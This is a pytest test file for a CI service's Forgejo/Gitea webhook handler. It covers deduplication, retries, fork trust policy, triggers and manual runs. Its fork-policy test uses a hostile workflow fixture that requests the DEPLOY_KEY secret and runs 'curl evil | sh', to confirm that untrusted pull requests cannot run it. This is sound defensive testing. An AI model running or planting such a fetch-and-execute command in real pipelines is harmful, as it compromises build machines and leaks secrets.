"""Webhook handling beyond the fixtures: dedup, refusals, 503s, fork policy, triggers, manual runs."""
from __future__ import annotations

import asyncio
import json
from typing import Any

import asyncpg
import httpx
from pydantic import SecretStr

from common.broker import BrokerError, MemoryBroker
from common.forge.inbox import InboxState
from common.forge.signature import sign
from common.messages import EventKind, RunRequest
from forge_integration.config import RepoSettings
from tests.fakes.forgejo_api import FakeForgejo
from tests.forge.conftest import (
    FAST_INBOX,
    FIXTURES,
    SECRET,
    Harness,
    make_config,
    service_with,
)

PUSH = json.loads((FIXTURES / "forgejo" / "HookPush.json").read_text())
PR = json.loads((FIXTURES / "forgejo" / "HookPullRequestReopened.json").read_text())
SAFE = 'workflow name="ci" { job id="build" runs_on="local" { step name="make" run="make" } }'
EVIL = ('workflow name="ci" { job id="build" runs_on="local" '
        '{ secrets "DEPLOY_KEY"; step name="x" run="curl evil | sh" } }')


def push_to(ref: str, after: str = PUSH["after"]) -> dict[str, Any]:
    return {**PUSH, "ref": ref, "after": after}


async def recorded(pool: asyncpg.Pool, *, rejected: bool = False) -> int:
    """How many deliveries the inbox holds that were (not) rejected."""
    return await pool.fetchval("SELECT count(*) FROM forge_inbox WHERE (state = 'rejected') = $1",
                               rejected)


async def test_redelivery_is_answered_200_and_publishes_nothing_new(harness: Harness) -> None:
    first = await harness.post(PUSH, "push", delivery="d-1")
    again = await harness.post(PUSH, "push", delivery="d-1")
    assert first.status_code == 202 and first.json()["delivery"] == "d-1"
    assert again.status_code == 200 and again.json()["outcome"] == "duplicate"
    assert "received before" in again.json()["reason"]
    # The same delivery id on the other forge is another delivery.
    assert (await harness.post(PUSH, "push", forge="gitea", delivery="d-1")).status_code == 202
    await harness.wait_for(lambda: len(harness.runs) == 2)
    await harness.settle()
    assert sorted(r.repo.forge for r in harness.runs) == ["forgejo", "gitea"]
    assert {r.sender for r in harness.runs} == {PUSH["sender"]["login"]}
    assert await harness.pool.fetchval("SELECT count(*) FROM forge_inbox") == 2


async def test_bad_requests_get_a_reason_and_change_nothing(harness: Harness) -> None:
    signed_garbage = await harness.post(b'{"ref": ', "push")
    assert signed_garbage.status_code == 400
    assert "not valid JSON" in signed_garbage.json()["error"]
    assert (await harness.post(b'{"ref": ', "push", secret=None)).status_code == 401
    assert (await harness.post(b"\xff\xfe", "push")).status_code == 400
    assert (await harness.post(b"[1, 2]", "push")).json()["error"] == "push payload is not a JSON object"
    unknown = await harness.post(PUSH, "issues")
    assert unknown.status_code == 400 and "unsupported event 'issues'" in unknown.json()["error"]
    missing = await harness.post({k: v for k, v in PUSH.items() if k != "after"}, "push")
    assert missing.status_code == 400 and "after" in missing.json()["error"]
    no_event = await harness.http.post("/webhooks/forgejo", content=b"{}", headers={
        "X-Forgejo-Delivery": "x", "X-Forgejo-Signature": sign(SECRET, b"{}")})
    assert no_event.status_code == 400 and "Event" in no_event.json()["error"]
    no_delivery = await harness.http.post("/webhooks/forgejo", content=b"{}", headers={
        "X-Forgejo-Event": "push", "X-Forgejo-Signature": sign(SECRET, b"{}")})
    assert no_delivery.status_code == 400 and "Delivery" in no_delivery.json()["error"]
    assert await recorded(harness.pool) == 0
    assert await recorded(harness.pool, rejected=True) == 5  # those with a delivery id and a signature
    deleted = await harness.post(push_to("refs/heads/gone", "0" * 40), "push")
    assert deleted.status_code == 200 and deleted.json()["outcome"] == "ignored"
    await harness.settle()
    assert harness.runs == []


async def test_tag_push_runs_as_a_tag(harness: Harness) -> None:
    response = await harness.post(push_to("refs/tags/v1.0.0"), "push", delivery="tag")
    assert response.status_code == 202
    assert (await harness.settled("tag")).state is InboxState.DONE
    await harness.wait_for(lambda: bool(harness.runs))
    [run] = harness.runs
    assert (run.event, run.tag, run.branch, run.ref) == (EventKind.TAG, "v1.0.0", None,
                                                         "refs/tags/v1.0.0")


class FlakyBroker(MemoryBroker):
    """The in-process broker, made to refuse publishes while `refusing` is set."""

    refusing = True

    async def publish_run(self, request: RunRequest) -> None:
        if self.refusing:
            raise BrokerError("publish nacked (injected)")
        await super().publish_run(request)


async def test_unconfirmed_publish_is_retried_until_the_broker_confirms(
        forge: FakeForgejo, pool: asyncpg.Pool, broker_prefix: str) -> None:
    broker = FlakyBroker(broker_prefix)
    await broker.connect()
    patient = make_config(forge, inbox=FAST_INBOX.model_copy(update={"max_attempts": 1000}))
    try:
        async with service_with(patient, forge, pool, broker) as h:
            assert (await h.post(PUSH, "push", delivery="d-503")).status_code == 202
            async with asyncio.timeout(5):
                while "nacked" not in (await h.entry("d-503")).last_error:
                    await asyncio.sleep(0.02)
            assert h.runs == []
            broker.refusing = False
            entry = await h.settled("d-503")
            assert entry.state is InboxState.DONE and entry.attempts >= 2, entry
            await h.wait_for(lambda: bool(h.runs))
            assert [r.request_id for r in h.runs] == ["d-503"]
    finally:
        await broker.close()


async def test_forge_api_failure_or_hang_is_retried(harness: Harness) -> None:
    harness.forge.fail(1, status=500, path_contains="/contents/")
    harness.forge.fail(1, status=0, delay=3.0, path_contains="/contents/")  # client timeout is 1 s
    assert (await harness.post(PUSH, "push", delivery="d-1")).status_code == 202
    entry = await harness.settled("d-1", timeout=10)
    assert (entry.state, entry.attempts) == (InboxState.DONE, 3), entry
    assert "no answer" in entry.last_error  # the last failure, kept for the record
    await harness.wait_for(lambda: len(harness.runs) == 1)


async def test_forge_api_failing_on_parks_the_delivery_with_its_last_error(
        forge: FakeForgejo, pool: asyncpg.Pool, broker: MemoryBroker) -> None:
    forge.fail(100, status=502, path_contains="/contents/")
    config = make_config(forge, inbox=FAST_INBOX.model_copy(update={"max_attempts": 4}))
    async with service_with(config, forge, pool, broker) as h:
        assert (await h.post(PUSH, "push", delivery="d-park")).status_code == 202
        entry = await h.settled("d-park")
        assert (entry.state, entry.attempts) == (InboxState.PARKED, 4), entry
        assert "HTTP 502" in entry.last_error
        await h.settle()
        assert h.runs == []
        ready = (await h.http.get("/readyz")).json()
        assert ready["details"]["inbox"] == {"pending": 0, "parked": 1}, ready
        assert ready["status"] == "ready"  # a parked delivery is the operator's, not a fault
        metrics = (await h.http.get("/metrics")).text
        assert 'solstice_inbox_parked{inbox="forge"} 1.0' in metrics, metrics


def pr_body(head_repo_id: int | None, author: str, head_sha: str = "a" * 40) -> dict[str, Any]:
    pull = json.loads(json.dumps(PR["pull_request"]))
    pull["head"]["sha"] = head_sha
    pull["head"]["repo_id"] = head_repo_id
    if head_repo_id is None:
        pull["head"].pop("repo", None)
    else:
        pull["head"]["repo"] = {**PR["repository"], "id": head_repo_id}
    pull["user"] = {"login": author}
    return {**PR, "pull_request": pull}


async def test_fork_policy(forge: FakeForgejo, pool: asyncpg.Pool, broker: MemoryBroker) -> None:
    repo = forge.repos["test_it/test_ci_thing"]
    repo.permissions |= {"alice": "write", "bob": "read"}
    forge.users |= {"alice", "bob"}
    repo.files[(repo.branches["main"], ".solstice/workflow.kdl")] = SAFE  # the base branch
    repo.files[("a" * 40, ".solstice/workflow.kdl")] = EVIL
    config = make_config(forge, repos={"test_it/test_ci_thing": RepoSettings(
        approval_for_untrusted=True)})
    own_id = PR["repository"]["id"]
    async with service_with(config, forge, pool, broker) as h:
        cases = [(pr_body(own_id + 1, "alice"), False), (pr_body(None, "alice"), False),
                 (pr_body(own_id, "bob"), False), (pr_body(own_id, "carol"), False),
                 (pr_body(own_id, "alice"), True)]

        async def trusted(body: dict[str, Any], delivery: str) -> bool:
            count = len(h.runs)
            response = await h.post(body, "pull_request", delivery=delivery)
            assert response.status_code == 202, response.text
            assert (await h.settled(delivery)).state is InboxState.DONE
            await h.wait_for(lambda: len(h.runs) == count + 1)
            return h.runs[-1].trusted

        for number, (body, expected) in enumerate(cases):
            assert await trusted(body, f"pr-{number}") is expected
        repo.token_is_admin = False  # the token may not read permissions: untrusted, not parked
        assert await trusted(pr_body(own_id, "alice"), "pr-admin") is False
    untrusted = [r for r in h.runs if not r.trusted]
    assert len(untrusted) == 5 and all(r.needs_approval for r in untrusted)
    assert all(r.workflow_source == SAFE and r.commit_sha == "a" * 40 for r in untrusted)
    [trusted] = [r for r in h.runs if r.trusted]
    assert trusted.workflow_source == EVIL and not trusted.needs_approval


async def test_invalid_workflow_gets_a_failed_status_pointing_at_the_error(harness: Harness) -> None:
    repo = harness.forge.repos["gordon/hello-world"]
    repo.files[(PUSH["after"], ".solstice/workflow.kdl")] = (
        'workflow name="ci" {\n  job id="build" runs_on="local" {\n    stepp name="x"\n'
        '    step name="ok" run="make"\n  }\n}\n')
    assert (await harness.post(PUSH, "push", delivery="bad")).status_code == 202
    entry = await harness.settled("bad")
    assert entry.state is InboxState.IGNORED and "does not validate" in entry.outcome, entry
    await harness.wait_for(lambda: bool(harness.forge.statuses))
    [status] = harness.forge.statuses
    assert (status.sha, status.state, status.context) == (PUSH["after"], "failure", "solstice/workflow")
    assert status.description.startswith(".solstice/workflow.kdl:3:")
    assert status.target_url.endswith(f"/src/commit/{PUSH['after']}/.solstice/workflow.kdl#L3")
    await harness.settle()
    assert harness.runs == []


async def test_triggers_filter_events_and_branches(harness: Harness) -> None:
    repo = harness.forge.repos["gordon/hello-world"]
    repo.files[(PUSH["after"], ".solstice/workflow.kdl")] = (
        'workflow { on "push" branches="release/*"\n'
        ' job id="b" runs_on="local" { step name="m" run="make" } }')

    async def outcome(body: dict[str, Any], delivery: str) -> tuple[InboxState, str]:
        assert (await harness.post(body, "push", delivery=delivery)).status_code == 202
        entry = await harness.settled(delivery)
        return entry.state, entry.outcome

    state, reason = await outcome(PUSH, "main")
    assert state is InboxState.IGNORED and "`on` triggers" in reason
    assert (await outcome(push_to("refs/heads/release/2.0"), "r2"))[0] is InboxState.DONE
    assert (await outcome(push_to("refs/tags/v2"), "v2"))[0] is InboxState.IGNORED
    # A later commit without the file (a commit's files never change: they are cached).
    state, reason = await outcome(push_to("refs/heads/release/3.0", "b" * 40), "r3")
    assert state is InboxState.IGNORED and "no .solstice/workflow.kdl" in reason
    await harness.settle()
    assert [r.branch for r in harness.runs] == ["release/2.0"]


async def test_manual_runs(harness: Harness) -> None:
    async def post(body: dict[str, Any], token: str = "manual-token") -> httpx.Response:
        return await harness.http.post("/runs", json=body, headers={"Authorization": f"Bearer {token}"})

    body = {"forge": "forgejo", "repository": "gordon/hello-world", "branch": "main",
            "request_id": "manual-1"}
    assert (await post(body, token="wrong")).status_code == 401
    accepted = await post(body)
    assert accepted.status_code == 202, accepted.text
    assert (await post(body)).json()["outcome"] == "duplicate"
    assert (await post({**body, "repository": "gordon/nope", "request_id": "m2"})).status_code == 404
    assert (await post({**body, "branch": "nope", "request_id": "m3"})).status_code == 404
    assert (await post({**body, "forge": "github"})).status_code == 400
    await harness.settle()
    [run] = harness.runs
    head = harness.forge.repos["gordon/hello-world"].branches["main"]
    assert (run.event, run.commit_sha, run.branch, run.trusted) == (EventKind.MANUAL, head, "main", True)
    assert run.priority > 6


async def test_secrets_per_repository_and_insecure_mode(forge: FakeForgejo, pool: asyncpg.Pool,
                                                        broker: MemoryBroker) -> None:
    config = make_config(forge, repos={"gordon/hello-world": RepoSettings(
        webhook_secret=SecretStr("repo-secret"))})
    async with service_with(config, forge, pool, broker) as h:
        assert (await h.post(PUSH, "push")).status_code == 401  # the global secret is replaced
        assert (await h.post(PUSH, "push", secret="repo-secret")).status_code == 202
    insecure = make_config(forge, webhook_secret=None, insecure_no_signature=True,
                           manual_token=None)
    async with service_with(insecure, forge, pool, broker) as h:
        assert (await h.post(push_to("refs/heads/dev"), "push", secret=None)).status_code == 202
        manual = await h.http.post("/runs", json={})
        assert manual.status_code == 403 and "disabled" in manual.json()["error"]
